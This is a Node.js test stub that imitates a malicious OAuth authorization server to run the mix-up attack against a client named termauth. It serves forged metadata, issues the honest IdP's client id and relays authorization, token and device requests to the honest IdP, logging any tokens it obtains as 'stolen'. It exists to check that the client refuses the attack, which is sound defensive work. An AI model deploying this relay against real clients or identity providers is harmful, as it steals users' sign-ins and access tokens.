// mixup-as.mjs — a STUB: an attacker's authorization server, which no
// real product here plays. It stands for the mix-up attack of RFC 9700
// 4.4.1 by way of RFC 9728: a protected resource names this server as
// its IdP, and this server passes the person's sign-in at the honest test
// IdP off as its own. Two ways:
//
// * listing: its metadata sends the person's browser (or the device flow)
//   to the honest IdP, while the code, the registration and every other
//   request would come here; its registration endpoint hands out the
//   honest IdP's own public client id, so that the honest IdP would accept
//   the sign-in;
// * relaying (MIXUP_RELAY=1): every endpoint is here, on its own origin,
//   and it passes each request on to the honest IdP with the honest
//   client id: the browser is redirected there with this sign-in's state,
//   challenge and redirect URI, and the code and verifier sent here are
//   redeemed there; the device flow's codes are the honest IdP's. Only
//   RFC 9207's iss in the redirect, which the honest IdP gives or not,
//   tells.
//
// termauth must refuse before it is robbed; its tests assert which
// requests reached this server, and a request that got the honest IdP's
// tokens is recorded as stolen.
//
// Usage: MIXUP_IDP=ISSUER node tests/idp/mixup-as.mjs — listens on
// 127.0.0.1, a random port, prints one line on stdout, its URL
// `http://127.0.0.1:PORT` (S), which is also its issuer.
//
// What it serves:
//   GET /mcp            401 with WWW-Authenticate: Bearer
//                       resource_metadata="S/.well-known/oauth-protected-resource/mcp"
//   GET /.well-known/oauth-protected-resource/mcp
//                       {"resource":"S/mcp","authorization_servers":["S"]},
//                       with "dpop_bound_access_tokens_required": true
//                       when MIXUP_DPOP=1
//   GET /.well-known/openid-configuration, /.well-known/oauth-authorization-server
//                       the honest IdP's metadata (read from MIXUP_IDP at
//                       start-up) with issuer S and every endpoint and the
//                       jwks_uri moved to S (same path), except those
//                       MIXUP_HONEST names,
//                       which keep the honest IdP's URL;
//                       authorization_response_iss_parameter_supported true
//                       when MIXUP_ISS=1 (a lie when the honest IdP sends
//                       no iss), else the honest IdP's
//   POST /reg           201 {"client_id": MIXUP_CLIENT_ID}
//   with MIXUP_RELAY=1, at the honest IdP's paths:
//     GET authorization endpoint  302 to the honest one, the same query
//                                 with client_id MIXUP_CLIENT_ID
//     POST token, device endpoint passed on to the honest one (client_id
//                                 MIXUP_CLIENT_ID), its answer returned
//     GET jwks_uri                the honest IdP's keys
//   anything else       400 {"error":"invalid_request"}
//
// Environment:
//   MIXUP_IDP        required: the honest IdP's issuer
//   MIXUP_HONEST     metadata members left at the honest IdP, separated by
//                    commas (default: authorization_endpoint; none with
//                    MIXUP_RELAY=1)
//   MIXUP_CLIENT_ID  the client id its registration hands out and its
//                    relay uses (default: termauth-test, the test IdP's
//                    public client)
//   MIXUP_DPOP=1     the resource wants DPoP-bound tokens
//   MIXUP_RELAY=1    relay, as above
//   MIXUP_ISS=1      promise RFC 9207 iss
//   MIXUP_RECORD     a file: one JSON line {"method","path"} per request,
//                    and {"stolen":true,"path"} for each relayed request
//                    the honest IdP answered with tokens or device codes
import http from 'node:http';
import fs from 'node:fs';

const idp = process.env.MIXUP_IDP;
if (!idp) {
  console.error('mixup-as: MIXUP_IDP is required');
  process.exit(2);
}
const relay = process.env.MIXUP_RELAY === '1';
const honest = new Set((process.env.MIXUP_HONEST ?? (relay ? '' : 'authorization_endpoint')).split(','));
const clientId = process.env.MIXUP_CLIENT_ID || 'termauth-test';
const record = process.env.MIXUP_RECORD;

const upstream = await (await fetch(`${idp}/.well-known/openid-configuration`)).json();
let self;

// The honest metadata, with this server as the issuer and each endpoint
// here unless MIXUP_HONEST keeps it at the honest IdP.
function metadata() {
  const md = { ...upstream, issuer: self };
  if (process.env.MIXUP_ISS === '1') md.authorization_response_iss_parameter_supported = true;
  for (const [key, value] of Object.entries(upstream)) {
    if (!/(_endpoint|^jwks_uri)$/.test(key) || typeof value !== 'string' || honest.has(key))
      continue;
    md[key] = self + new URL(value).pathname;
  }
  return md;
}

function send(res, status, body, headers = {}) {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
}

// The honest endpoint at this path, when relaying.
function honestAt(path) {
  for (const key of ['authorization_endpoint', 'token_endpoint', 'device_authorization_endpoint', 'jwks_uri'])
    if (typeof upstream[key] === 'string' && new URL(upstream[key]).pathname === path)
      return { key, url: upstream[key] };
  return null;
}

// A POST passed on to the honest IdP as the honest client.
async function passOn(req, res, url, path) {
  const chunks = [];
  for await (const chunk of req) chunks.push(chunk);
  const form = new URLSearchParams(Buffer.concat(chunks).toString());
  form.set('client_id', clientId);
  const answer = await fetch(url, {
    method: 'POST', body: form, headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });
  const body = await answer.text();
  if (record && answer.ok && /"(access_token|device_code)"/.test(body))
    fs.appendFileSync(record, JSON.stringify({ stolen: true, path }) + '\n');
  res.writeHead(answer.status, { 'content-type': 'application/json' });
  res.end(body);
}

const server = http.createServer((req, res) => {
  const url = new URL(req.url, self);
  const path = url.pathname;
  if (record)
    fs.appendFileSync(record, JSON.stringify({ method: req.method, path }) + '\n');
  const to = relay ? honestAt(path) : null;
  if (to && req.method === 'GET' && to.key === 'authorization_endpoint') {
    req.resume();
    const there = new URL(to.url);
    url.searchParams.forEach((v, k) => there.searchParams.set(k, v));
    there.searchParams.set('client_id', clientId);
    res.writeHead(302, { location: there.href });
    return res.end();
  }
  if (to && req.method === 'GET' && to.key === 'jwks_uri') {
    req.resume();
    return fetch(to.url).then(async (answer) => send(res, answer.status, await answer.json()))
      .catch((err) => send(res, 502, { error: String(err) }));
  }
  if (to && req.method === 'POST' && to.key !== 'authorization_endpoint' && to.key !== 'jwks_uri')
    return passOn(req, res, to.url, path).catch((err) => send(res, 502, { error: String(err) }));
  req.resume();
  const prm = `${self}/.well-known/oauth-protected-resource/mcp`;
  if (req.method === 'GET' && path === '/mcp')
    return send(res, 401, { error: 'invalid_token' },
                { 'www-authenticate': `Bearer resource_metadata="${prm}"` });
  if (req.method === 'GET' && path === '/.well-known/oauth-protected-resource/mcp')
    return send(res, 200, {
      resource: `${self}/mcp`, authorization_servers: [self],
      ...(process.env.MIXUP_DPOP === '1' ? { dpop_bound_access_tokens_required: true } : {}),
    });
  if (req.method === 'GET' && (path === '/.well-known/openid-configuration' ||
                               path === '/.well-known/oauth-authorization-server'))
    return send(res, 200, metadata());
  if (req.method === 'POST' && path === '/reg')
    return send(res, 201, { client_id: clientId, token_endpoint_auth_method: 'none' });
  return send(res, 400, { error: 'invalid_request' });
});

server.listen(0, '127.0.0.1', () => {
  self = `http://127.0.0.1:${server.address().port}`;
  process.stdout.write(`${self}\n`);
});
